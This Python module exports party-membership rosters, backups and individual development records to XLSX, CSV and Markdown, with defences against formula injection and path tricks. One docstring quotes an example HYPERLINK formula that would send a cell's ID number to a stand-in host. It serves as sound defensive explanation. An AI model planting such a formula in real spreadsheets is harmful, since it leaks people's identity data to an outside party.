"""Write rosters (XLSX, CSV, Markdown), the JSON backup, and one person's full record.

Every file is written to a temporary name and renamed, and an existing file is never
replaced unless the caller says so (``force``).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from collections.abc import Callable
from copy import copy
from datetime import date
from pathlib import Path
from typing import Any

from rich.cells import cell_len

from .i18n import BilingualError
from .model import Event, Person
from .registers import Cell, Roster, index_title
from .reports import STATUS_MARKS, PersonView
from .serialize import person_json
from .stages import SECTIONS, event_label, stage_label

FORMATS = ("xlsx", "csv", "md", "json")
DATE_STYLES = ("dot", "iso")
#: the body font of printed rosters: the standard CJK serif at a size a superior can read
FONT_NAME, FONT_SIZE, MIN_PRINT_SIZE = "宋体", 10.5, 9.0
#: printable width of A4 landscape with the default margins, in mm; one Excel width unit at 11 pt ≈ 2 mm
A4_LANDSCAPE_MM, MM_PER_WIDTH_UNIT = 267.0, 2.0
BACKUP_FORMAT = "party-tracker"
BACKUP_VERSION = 1


_SUFFIX_FORMAT = {".xlsx": "xlsx", ".csv": "csv", ".md": "md", ".json": "json"}


def format_for_path(path: Path, fmt: str | None) -> str | None:
    """The format a file named ``path`` should have: its extension's when no format is given (``-o b.json`` is
    a JSON backup, not a workbook called b.json); a format that contradicts the extension is refused."""
    implied = _SUFFIX_FORMAT.get(path.suffix.lower())
    if fmt is None:
        return implied
    if implied is not None and implied != fmt:
        raise ExportError(f"文件名 {path.name} 的扩展名与格式 {fmt} 不符：请把文件名改为 {path.stem}.{fmt}，或不指定格式。",
                          f"The file name {path.name} does not match the format {fmt}: name it {path.stem}.{fmt}, or "
                          "leave the format out.")
    return fmt


class ExportError(BilingualError):
    """A file that cannot or may not be written."""


class FileExists(ExportError):
    """The file is there already and ``force`` was not given; ``path`` says which (the app words it its way)."""

    def __init__(self, zh: str, en: str, path: Path) -> None:
        super().__init__(zh, en)
        self.path = path


def default_date_style(fmt: str) -> str:
    """Dots (2025.03.05) where people read the file (XLSX, Markdown); ISO where programs do (CSV, JSON)."""
    return "dot" if fmt in ("xlsx", "md") else "iso"


def date_text(value: date, style: str = "iso", month: bool = False) -> str:
    if style == "dot":
        return f"{value.year}.{value.month:02d}" if month else f"{value.year}.{value.month:02d}.{value.day:02d}"
    return value.isoformat()


def _text(value: Cell, style: str = "iso", month: bool = False) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return date_text(value, style, month)
    return str(value)


#: a text cell starting with one of these is a formula to Excel, LibreOffice or Sheets (OWASP CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_csv(text: str) -> str:
    """A CSV cell no spreadsheet evaluates: a leading ``'`` before a formula character (importers strip it)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def inert_cells(ws: Any) -> None:
    """Every text cell of an openpyxl sheet as a string cell: openpyxl writes text starting with ``=`` as a live
    formula, and a name like ``=HYPERLINK("http://x/?"&F4,"click")`` would send the next cell's ID number away."""
    for row in ws.iter_rows():
        for c in row:
            if c.data_type in ("f", "e") and isinstance(c.value, str):  # a formula, or text like "#N/A"
                c.data_type = "s"


def write_atomically(path: Path, write: Callable[[io.BufferedWriter], object], *, force: bool) -> Path:
    path = Path(path)
    if path.exists() and not force:
        raise FileExists(f"文件 {path} 已存在，未覆盖。换一个文件名（-o），或加 --force 覆盖。",
                         f"{path} already exists and was not overwritten. Choose another name (-o) or add --force.",
                         path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.{os.getpid()}.tmp")
    with contextlib.suppress(FileNotFoundError):
        os.unlink(tmp)  # left by a crash: created anew below, never written through
    try:
        # 0600 whatever the umask: rosters and backups hold ID numbers and phones (PIPL)
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_BINARY", 0), 0o600)
        if hasattr(os, "fchmod"):
            os.fchmod(fd, 0o600)
        with open(fd, "wb") as fh:
            write(fh)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp)
        raise
    return path


# ------------------------------------------------------------------ rosters

def _header(r: Roster, lang: str) -> list[str]:
    return [index_title(lang), *(c.title(lang) for c in r.columns)]


def _body(r: Roster) -> list[list[Cell]]:
    return [[i, *row] for i, row in enumerate(r.rows, start=1)]


def _months(r: Roster) -> list[bool]:
    """Per cell of a body row (序号 first): is it a date shown to the month?"""
    return [False, *(c.month for c in r.columns)]


def rosters_csv(rosters: list[Roster], lang: str, style: str = "iso") -> bytes:
    if len(rosters) != 1:
        raise ExportError("CSV 只能放一个名册：请指定 --stage，或用 --format xlsx 导出全部。",
                          "A CSV holds one roster: give --stage, or use --format xlsx for all stages.")
    (r,) = rosters
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow([inert_csv(h) for h in _header(r, lang)])
    months = _months(r)
    for row in _body(r):
        # a month-only birth keeps its full date in ISO CSV: re-importing it must match the ID number exactly
        w.writerow([inert_csv(v) if isinstance(v, str) else _text(v, style, m and style == "dot")
                    for v, m in zip(row, months, strict=True)])
    return buf.getvalue().encode("utf-8-sig")  # the BOM makes Excel read Chinese correctly


def md_text(text: str) -> str:
    """Text inside a Markdown table cell or line: a ``|`` or a line break cannot end the cell or the row."""
    text = text.replace("\\", "\\\\").replace("|", "\\|")
    return " ".join(text.splitlines())


def _md_cell(value: Cell, style: str = "iso", month: bool = False) -> str:
    return md_text(_text(value, style, month))


def rosters_md(rosters: list[Roster], lang: str, style: str = "dot") -> bytes:
    parts = []
    for r in rosters:
        parts.append(f"## {md_text(r.title)}\n\n{md_text(r.subtitle)}\n")
        parts.append("| " + " | ".join(_header(r, lang)) + " |")
        parts.append("|" + "---|" * (len(r.columns) + 1))
        months = _months(r)
        for row in _body(r):
            parts.append("| " + " | ".join(_md_cell(v, style, m) for v, m in zip(row, months, strict=True)) + " |")
        if r.footer:
            parts += ["", md_text(r.footer)]
        parts.append("")
    return ("\n".join(parts) + "\n").encode("utf-8")


def _width(values: list[str], minimum: int) -> float:
    """From the data, not the header (headers wrap): the longest cell, within sensible bounds."""
    longest = max((cell_len(v) for v in values), default=0)
    return float(min(max(minimum, longest + 2), 40))


def _fits_on_a4(total_width: float) -> bool:
    """Whether fitting every column on one A4 landscape page keeps the text at MIN_PRINT_SIZE or more."""
    natural_mm = total_width * MM_PER_WIDTH_UNIT * FONT_SIZE / 11
    return natural_mm * MIN_PRINT_SIZE / FONT_SIZE <= A4_LANDSCAPE_MM


def rosters_xlsx(rosters: list[Roster], lang: str, style: str = "dot") -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    wb.remove(wb.active)
    thin = Side(style="thin", color="666666")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    body_font = Font(name=FONT_NAME, size=FONT_SIZE)
    day_format, month_format = ("yyyy.mm.dd", "yyyy.mm") if style == "dot" else ("yyyy-mm-dd", "yyyy-mm")
    for r in rosters:
        ws = wb.create_sheet(title=r.sheet[:31])
        header = _header(r, lang)
        ncol = len(header)
        months = _months(r)
        ws.cell(row=1, column=1, value=r.title).font = Font(name=FONT_NAME, bold=True, size=16)
        ws.row_dimensions[1].height = 30
        ws.cell(row=2, column=1, value=r.subtitle).font = body_font
        for j, title in enumerate(header, start=1):
            c = ws.cell(row=3, column=j, value=title)
            c.font = Font(name=FONT_NAME, size=FONT_SIZE, bold=True)
            c.fill = PatternFill("solid", fgColor="DDEBF7")
            c.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
            c.border = border
        body = _body(r)
        for i, row in enumerate(body, start=4):
            for j, value in enumerate(row, start=1):
                c = ws.cell(row=i, column=j, value=value)
                c.border = border
                c.font = body_font
                c.alignment = Alignment(vertical="center", wrap_text=True)
                if isinstance(value, date):
                    c.number_format = month_format if months[j - 1] else day_format
                    c.alignment = Alignment(horizontal="center", vertical="center")
                elif j == 1:  # 序号
                    c.alignment = Alignment(horizontal="center", vertical="center")
        footer_row = len(body) + 5
        if r.footer:
            ws.cell(row=footer_row, column=1, value=r.footer).font = body_font
        total = 0.0
        for j, title in enumerate(header, start=1):
            minimum = 5 if j == 1 else min(r.columns[j - 2].width, max(cell_len(title) // 2 + 2, 6))
            texts = [_text(row[j - 1], style, months[j - 1]) for row in body]
            width = _width(texts, minimum)
            ws.column_dimensions[get_column_letter(j)].width = width
            total += width
        ws.row_dimensions[3].height = 42  # two or three lines of a wrapped header
        ws.freeze_panes = "C4"
        ws.print_title_rows = "3:3"
        ws.page_setup.orientation = "landscape"
        ws.page_setup.paperSize = ws.PAPERSIZE_A4
        ws.print_options.horizontalCentered = True
        if _fits_on_a4(total):  # one page wide: title, subtitle and footer centred over the table
            ws.page_setup.fitToWidth = 1
            ws.page_setup.fitToHeight = 0
            ws.sheet_properties.pageSetUpPr.fitToPage = True
            for row_no in (1, 2, footer_row):
                ws.cell(row=row_no, column=1).alignment = Alignment(horizontal="center" if row_no < 3 else "left")
                ws.merge_cells(start_row=row_no, start_column=1, end_row=row_no, end_column=ncol)
        else:  # fitting would shrink the text below MIN_PRINT_SIZE: more pages, 序号 and 姓名 repeated on each.
            ws.print_title_cols = "A:B"  # The title lines move to column C, so the repeated columns do not cut them
            for row_no in (1, 2, footer_row):
                ws.cell(row=row_no, column=3).value, ws.cell(row=row_no, column=1).value = (
                    ws.cell(row=row_no, column=1).value, None)
                ws.cell(row=row_no, column=3).font = copy(ws.cell(row=row_no, column=1).font)
        inert_cells(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def render_rosters(rosters: list[Roster], fmt: str, lang: str, style: str | None = None) -> bytes:
    style = style or default_date_style(fmt)
    if style not in DATE_STYLES:
        raise ExportError(f"日期格式 {style} 无效，可用 dot（2025.03.05）或 iso（2025-03-05）。",
                          f"Unknown date style {style}: use dot (2025.03.05) or iso (2025-03-05).")
    if fmt == "xlsx":
        return rosters_xlsx(rosters, lang, style)
    if fmt == "csv":
        return rosters_csv(rosters, lang, style)
    if fmt == "md":
        return rosters_md(rosters, lang, style)
    raise ExportError(f"名册不支持格式 {fmt}。", f"Rosters cannot be written as {fmt}.")


# ------------------------------------------------------------------ the JSON backup

def backup_json(people: list[Person], today: date) -> bytes:
    data: dict[str, Any] = {
        "format": BACKUP_FORMAT,
        "version": BACKUP_VERSION,
        "exported": today.isoformat(),
        "people": [person_json(p) for p in people],
    }
    return (json.dumps(data, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


# ------------------------------------------------------------------ one person's full record

def _event_details(ev: Event, lang: str) -> str:
    """What was recorded with a step, in words: names, result, length, the collective oath, reason, note."""
    zh = lang == "zh"
    out = []
    if ev.names:
        who = {"sponsors": ("入党介绍人", "sponsors"), "mentors": ("培养联系人", "mentors")}.get(ev.event, ("姓名", "names"))
        out.append(f"{who[0] if zh else who[1]}：{'、'.join(ev.names)}" if zh else f"{who[1]}: {', '.join(ev.names)}")
    if ev.result:
        words = {"pass": ("合格", "passed"), "fail": ("不合格", "failed")}.get(ev.result, (ev.result, ev.result))
        out.append(f"结论：{words[0]}" if zh else f"result: {words[1]}")
    if ev.days:
        out.append(f"{ev.days:g}天" if zh else f"{ev.days:g} days")
    if ev.hours:
        out.append(f"{ev.hours:g}学时" if zh else f"{ev.hours:g} class hours")
    if ev.months:
        out.append(f"延长{ev.months}个月" if zh else f"extended by {ev.months} months")
    if ev.collective:
        out.append("集体宣誓" if zh else "collective ceremony")
    if ev.reason:
        out.append(f"原因：{ev.reason}" if zh else f"reason: {ev.reason}")
    if ev.note:
        out.append(f"备注：{ev.note}" if zh else f"note: {ev.note}")
    return "，".join(out) if zh else ", ".join(out)


def _record_rows(view: PersonView, lang: str) -> list[tuple[str, str, str, str, str]]:
    rows = []
    last = None
    for r in view.timeline:
        section = ""
        if r.section != last:
            _a, _b, zh, en = SECTIONS[r.section]
            section = zh if lang == "zh" else en
            last = r.section
        done = view.person.all_of(r.event)
        details = [(f"{ev.date}：" if len(done) > 1 else "") + text for ev in done
                   if (text := _event_details(ev, lang))]
        notes = details + [late.message(lang) for late in r.late]
        notes += [("未按规定条件办理，理由：" if lang == "zh" else "Override: ") + o for o in r.overrides]
        if r.status == "next" and r.earliest:
            notes.append(("下一步，最早 " if lang == "zh" else "next, earliest ") + r.earliest.isoformat())
        if r.due:
            notes.append(("应于 " if lang == "zh" else "due ") + r.due.isoformat())
        if r.projected:
            notes.append(("预计最早 " if lang == "zh" else "at the earliest ") + r.projected.isoformat())
        if r.status == "needed":
            notes.append("须先办理" if lang == "zh" else "to do first")
        state = STATUS_MARKS[r.status]
        rows.append((section, str(r.step or ""), f"{state} {event_label(r.event, lang)}".strip(),
                     "、".join(d.isoformat() for d in r.dates), "；".join(notes)))
    return rows


def _person_facts(view: PersonView, lang: str, full_id: bool) -> list[tuple[str, str]]:
    from .i18n import label
    from .registers import mask_id

    p = view.person
    facts = [(label("name", lang), p.name), (label("stage", lang), stage_label(p.stage, lang))]
    for key in ("gender", "ethnicity", "birth", "education", "branch", "phone", "id_number", "note"):
        value = getattr(p, key)
        if key == "id_number" and value and not full_id:
            value = mask_id(value)
        if value:
            facts.append((label(key, lang), value.isoformat() if isinstance(value, date) else str(value)))
    for key, value in (("probation_end", view.probation_end), ("standing_from", view.standing_from)):
        if value:
            facts.append((label(key, lang), value.isoformat()))
    return facts


def person_record(view: PersonView, fmt: str, lang: str, today: date, full_id: bool = False) -> bytes:
    title = f"{view.person.name} 发展党员全程纪实" if lang == "zh" else (
        f"{view.person.name}: full record of development (发展党员全程纪实)")
    heads = ["环节", "序号", "步骤", "日期", "说明"] if lang == "zh" else ["Part", "No.", "Step", "Date", "Notes"]
    facts = _person_facts(view, lang, full_id)
    rows = _record_rows(view, lang)
    signature = ("填写人（签字）：　　　　　　审核人（支部书记签字）：　　　　　　日期：" if lang == "zh"
                 else "Filled in by (signature):            Checked by (branch secretary):            Date:")
    if fmt == "md":
        lines = [f"# {md_text(title)}", "", ("截至 " if lang == "zh" else "As of ") + today.isoformat(), ""]
        lines += [f"- {k}：{md_text(v)}" if lang == "zh" else f"- {k}: {md_text(v)}" for k, v in facts]
        lines += ["", "| " + " | ".join(heads) + " |", "|---|---|---|---|---|"]
        lines += ["| " + " | ".join(md_text(c) for c in row) + " |" for row in rows]
        lines += ["", signature]
        return ("\n".join(lines) + "\n").encode("utf-8")
    if fmt != "xlsx":
        raise ExportError("全程纪实可导出为 md 或 xlsx。", "A person's record can be written as md or xlsx.")
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    wb = Workbook()
    ws = wb.active
    ws.title = "全程纪实" if lang == "zh" else "Record"
    ws.append([title])
    ws["A1"].font = Font(bold=True, size=14)
    for k, v in facts:
        ws.append([k, v])
    ws.append([])
    ws.append(heads)
    head_row = ws.max_row
    for c in ws[head_row]:
        c.font = Font(bold=True)
    for row in rows:
        ws.append(list(row))
    ws.append([])
    ws.append([signature])
    for col, width in zip("ABCDE", (24, 6, 32, 24, 60), strict=True):
        ws.column_dimensions[col].width = width
    for r in ws.iter_rows(min_row=head_row + 1):
        r[4].alignment = Alignment(wrap_text=True, vertical="top")
    ws.freeze_panes = f"A{head_row + 1}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToHeight = 0
    inert_cells(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def safe_filename_part(text: str) -> str:
    """A name or branch as part of one file name: no folder separators, no ``..``, no control or reserved
    characters (Windows too), never empty."""
    cleaned = "".join("_" if c in '/\\:*?"<>|' or ord(c) < 32 or ord(c) == 127 else c for c in text)
    cleaned = cleaned.replace("..", "_").strip(" .")
    return cleaned or "_"


def default_name(kind: str, today: date, ext: str, branch: str | None = None) -> str:
    """A sensible file name (Chinese, as the registers are called), e.g. 入党积极分子名册-2026-11-27.xlsx;
    a person's or branch's name cannot point the file into another folder."""
    prefix = f"{safe_filename_part(branch)}-" if branch else ""
    return f"{prefix}{safe_filename_part(kind)}-{today.isoformat()}.{ext}"
